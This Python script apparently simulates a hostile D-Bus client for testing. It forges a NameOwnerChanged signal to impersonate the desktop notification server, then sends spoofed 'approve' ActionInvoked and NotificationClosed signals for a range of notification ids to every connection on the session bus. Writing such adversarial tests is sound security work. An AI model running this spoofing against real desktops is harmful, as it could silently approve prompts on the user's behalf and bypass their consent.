#!/usr/bin/python3
# Plays a hostile process on the session bus: pretends to be the notification server and clicks
# KEY on notification ids 1..COUNT, both broadcast and sent to every other connection on the bus (a
# signal addressed to a connection needs no match rule), after claiming the name in a forged
# NameOwnerChanged. Ends with ActionInvoked/NotificationClosed for the same ids. Prints "sent".
import argparse

import dbus
from dbus.lowlevel import SignalMessage

NAME = "org.freedesktop.Notifications"
PATH = "/org/freedesktop/Notifications"


def signal(path, interface, member, signature, args, destination=None):
    message = SignalMessage(path, interface, member)
    message.append(*args, signature=signature)
    if destination:
        message.set_destination(destination)
    return message


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--count", type=int, default=8)
    parser.add_argument("--key", default="approve")
    args = parser.parse_args()
    bus = dbus.SessionBus()
    me = bus.get_unique_name()
    names = bus.call_blocking("org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus", "ListNames", "", [])
    targets = [None] + [str(n) for n in names if str(n).startswith(":") and str(n) != me]
    for target in targets:
        bus.send_message(signal("/org/freedesktop/DBus", "org.freedesktop.DBus", "NameOwnerChanged", "sss",
                                [NAME, "", me], target))
        for nid in range(1, args.count + 1):
            bus.send_message(signal(PATH, NAME, "ActionInvoked", "us", [dbus.UInt32(nid), args.key], target))
            bus.send_message(signal(PATH, NAME, "NotificationClosed", "uu",
                                    [dbus.UInt32(nid), dbus.UInt32(2)], target))
    bus.flush()
    # A round trip to the bus: everything sent before it has been routed.
    bus.call_blocking("org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus", "GetId", "", [])
    print("sent", flush=True)


if __name__ == "__main__":
    main()
